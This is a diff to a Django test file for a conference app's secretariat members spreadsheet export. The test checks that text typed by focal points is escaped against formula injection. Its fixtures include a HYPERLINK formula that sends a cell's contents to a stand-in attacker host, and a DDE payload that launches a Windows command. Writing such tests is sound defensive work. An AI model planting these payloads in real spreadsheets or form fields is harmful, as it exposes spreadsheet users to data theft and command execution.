@@ -10,6 +10,7 @@ from django.urls import reverse
 
 from sessions.models import GalaInvitation, SessionKind
 from tests import factories
+from tests.hanoi_summit.secretariat.exports.downloads import body
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your seat")'
 SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -51,8 +52,8 @@ def test_members_xlsx_export_prefixes_what_a_focal_point_typed(api, head_of_dele
         format="json",
     )
     assert response.status_code == 200, response.content[:300]
-    download = secretariat_client.get("/dashboard/exports/members.xlsx")
-    sheet = openpyxl.load_workbook(io.BytesIO(download.content)).active
+    download = body(secretariat_client.get("/dashboard/exports/members.xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(download)).active
     header, *rows = list(sheet.iter_rows(values_only=True))
     (row,) = [r for r in rows if r[header.index("Dietary needs")]]
     assert row[header.index("Dietary needs")] == "'" + SUM
